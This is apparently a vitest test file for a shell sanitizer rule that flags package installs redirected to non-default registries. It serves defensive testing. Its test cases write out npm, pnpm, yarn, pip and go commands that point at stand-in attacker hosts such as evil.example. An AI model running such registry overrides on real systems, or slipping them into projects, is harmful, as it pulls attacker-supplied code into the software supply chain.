import { beforeAll, describe, expect, it } from "vitest";
import { loadShellParser } from "../../../src/sanitizer/shell/parser.js";
import { argv, cmd } from "./first-rule.js";

beforeAll(() => loadShellParser());

describe("shell.index-override", () => {
  it("blocks installs pointed at another index, on a line or in argv", () => {
    expect(cmd("npm config set registry http://evil.example/ && npm i")).toBe(
      "shell.index-override",
    );
    expect(cmd("npm i --registry=http://evil.example/")).toBe("shell.index-override");
    expect(cmd("pnpm add lodash --registry https://npm.evil.example")).toBe("shell.index-override");
    expect(cmd("yarn config set npmRegistryServer https://r.example")).toBe("shell.index-override");
    expect(cmd("pip install --index-url http://evil.example/simple x")).toBe(
      "shell.index-override",
    );
    expect(cmd("pip3 install --extra-index-url=https://evil.example/simple x")).toBe(
      "shell.index-override",
    );
    expect(cmd("python3 -m pip install -i http://e.example/simple x")).toBe("shell.index-override");
    expect(cmd("pip config set global.index-url http://e.example/simple")).toBe(
      "shell.index-override",
    );
    expect(cmd("pip install --trusted-host e.example x")).toBe("shell.index-override");
    expect(cmd("PIP_INDEX_URL=http://e.example/simple pip install x")).toBe("shell.index-override");
    expect(cmd("export npm_config_registry=http://e.example")).toBe("shell.index-override");
    expect(cmd("go env -w GOPROXY=http://e.example")).toBe("shell.index-override");
    expect(argv("npm", "install", "--registry=http://evil.example/")).toBe("shell.index-override");
  });

  it("passes the public registries over https, loopback mirrors, local wheels and variables", () => {
    expect(cmd("npm config set registry https://registry.npmjs.org/")).toBeUndefined();
    expect(cmd("npm i --registry http://localhost:4873")).toBeUndefined();
    expect(cmd("pip install --index-url https://pypi.org/simple x")).toBeUndefined();
    expect(cmd("pip install --no-index -f ./wheels x")).toBeUndefined();
    expect(cmd('npm config set registry "$REGISTRY"')).toBeUndefined();
    expect(cmd("npm whoami --registry registry_url")).toBeUndefined();
    expect(cmd("pip install -r requirements.txt && npm config get registry")).toBeUndefined();
  });
});
